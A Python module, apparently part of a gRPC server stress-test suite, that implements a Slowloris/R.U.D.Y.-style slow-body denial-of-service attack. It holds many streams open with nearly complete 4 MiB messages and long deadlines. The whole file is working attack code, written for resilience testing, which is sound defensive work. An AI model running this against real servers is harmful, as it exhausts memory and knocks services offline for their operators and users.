"""Requests whose last bytes never come (the slow body of "Slowloris" and "R.U.D.Y."): the
server has to hold what has arrived until the deadline, which the caller sets as late as it can.

50 connections with 200 calls each. Each call sends all but the last 10 bytes of a message of 4 MiB.
Every fifth connection calls health, and every fifth calls reflection, whose calls have no deadline
of their own.
"""

from support import grpc
from support.connection import STREAMS, Attack, Connection
from support.frames import MAX_PAYLOAD

CONNECTIONS = 50
# With the prefix of the message, and without the last 10 bytes.
SENT = len(grpc.prefix(0)) + grpc.MAX_MESSAGE - 10
PATHS = (grpc.CALL, grpc.CALL, grpc.CALL, grpc.HEALTH_CHECK, grpc.REFLECTION)
ZEROS = bytes(MAX_PAYLOAD)


async def attack(attack: Attack) -> None:
    await attack.keep(CONNECTIONS, half_send)


async def half_send(connection: Connection, number: int) -> None:
    path = PATHS[number % len(PATHS)]
    unsent: dict[int, int] = {}
    while not connection.is_closed:
        while len(connection.streams) < STREAMS and not connection.is_full:
            stream = connection.request(path, [("grpc-timeout", "300S")])
            if connection.is_closed:
                return
            unsent[stream] = SENT
        unsent = {stream: left for stream, left in unsent.items() if stream in connection.streams}
        progress = 0
        for stream, left in unsent.items():
            sent = send_some(connection, stream, left)
            unsent[stream] = left - sent
            progress += sent
        await connection.turn(progress)


def send_some(connection: Connection, stream: int, left: int) -> int:
    if left < SENT:
        return connection.send_data(stream, ZEROS[:left])
    return connection.send_data(stream, grpc.prefix(grpc.MAX_MESSAGE))
